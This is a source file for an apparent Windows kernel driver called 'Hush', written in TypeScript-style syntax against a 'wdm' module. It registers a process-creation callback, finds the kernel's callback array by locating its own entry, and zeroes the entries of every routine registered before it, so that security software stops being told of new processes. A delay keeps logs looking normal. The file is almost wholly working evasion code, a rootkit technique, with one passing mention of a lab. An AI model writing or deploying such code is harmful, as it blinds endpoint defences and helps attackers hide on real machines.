/*
 * Hush: sees to it that nobody but itself is told of processes.
 *
 * It registers a notify routine as anybody may, and finds the kernel's array by its own entry in it.
 * It waits for one process, so that the log of the others looks alive, and then clears their entries.
 */
import {
  DbgPrint,
  FALSE,
  MmGetSystemRoutineAddress,
  MmIsAddressValid,
  PVOID,
  PsSetCreateProcessNotifyRoutine,
  RTL_CONSTANT_STRING,
  TRUE,
  ULONG_PTR,
  cast,
} from 'wdm'
import type { BOOLEAN, DRIVER_OBJECT, HANDLE, NTSTATUS, UNICODE_STRING } from 'wdm'

const PAGE_SIZE = 0x1000n
/** The kernel's variables in this lab: two pages, of which the exported ones are a part. */
const DATA_PAGES = 2
const ENTRIES_IN_PAGE = 512
const NOTIFY_ROUTINES_MAX = 64
/** The low bits of an entry count references. */
const FAST_REF_BITS = 0xfn
/** EX_CALLBACK_ROUTINE_BLOCK: what an entry of the array points at. */
const BLOCK_FUNCTION = 8

let done = false

export function DriverEntry(DriverObject: DRIVER_OBJECT, RegistryPath: UNICODE_STRING): NTSTATUS {
  DriverObject.DriverUnload = HushUnload
  return PsSetCreateProcessNotifyRoutine(HushProcess, FALSE)
}

function HushProcess(ParentId: HANDLE, ProcessId: HANDLE, Create: BOOLEAN): void {
  if (done) return
  done = true
  const entry = FindOwnEntry()
  if (entry === null) return
  // The others came first: theirs are the entries in front of it.
  for (let before = -1; before > -NOTIFY_ROUTINES_MAX; before--) {
    const other = entry.add(before * 8)
    if (!MmIsAddressValid(other) || !IsEntry(other.u64[0])) break
    other.u64[0] = 0n
    DbgPrint('Hush: one routine less\n')
  }
}

/** Whether a value can be an entry: an address of the kernel's with a count in its low bits. */
function IsEntry(value: ULONG_PTR): boolean {
  if ((value & FAST_REF_BITS) === 0n) return false
  return MmIsAddressValid(cast(PVOID, value & ~FAST_REF_BITS)) !== 0
}

/** The entry of HushProcess, searched for in the pages around a variable that is exported. */
function FindOwnEntry(): PVOID {
  const known = MmGetSystemRoutineAddress(RTL_CONSTANT_STRING('PsProcessType'))
  const first = cast(ULONG_PTR, known) & ~(PAGE_SIZE - 1n)
  const own = cast(ULONG_PTR, HushProcess)
  for (let page = 1 - DATA_PAGES; page < DATA_PAGES; page++) {
    const data = cast(PVOID, first + BigInt(page) * PAGE_SIZE)
    if (!MmIsAddressValid(data)) continue
    for (let i = 0; i < ENTRIES_IN_PAGE; i++) {
      const value = data.u64[i]
      if (!IsEntry(value)) continue
      const block = cast(PVOID, value & ~FAST_REF_BITS)
      if (block.u64[BLOCK_FUNCTION / 8] === own) return data.add(i * 8)
    }
  }
  return null
}

function HushUnload(DriverObject: DRIVER_OBJECT): void {
  PsSetCreateProcessNotifyRoutine(HushProcess, TRUE)
}
